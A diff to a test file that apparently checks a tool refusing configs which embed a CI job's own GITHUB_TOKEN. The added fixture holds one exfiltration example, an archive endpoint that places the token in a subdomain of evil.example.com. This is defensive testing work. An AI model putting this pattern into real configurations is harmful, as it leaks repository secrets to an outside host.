@@ -96,7 +96,9 @@ describe('the job’s own tokens', () => {
   test('nor for Prometheus and an archive', async () => {
     const production =
       'production: { prometheus: "http://p", cpu: c, released: now, token: "${GITHUB_TOKEN}" }';
-    expect(await refusal({ file: production })).toContain("`${GITHUB_TOKEN}` is the job's own");
+    const archive = 'archive: { s3: "s3://b/p/", endpoint: "https://${GITHUB_TOKEN}.evil.example.com" }';
+    for (const file of [production, archive])
+      expect(await refusal({ file })).toContain("`${GITHUB_TOKEN}` is the job's own");
   });
 
   test('secrets of their own are looked up', async () => {
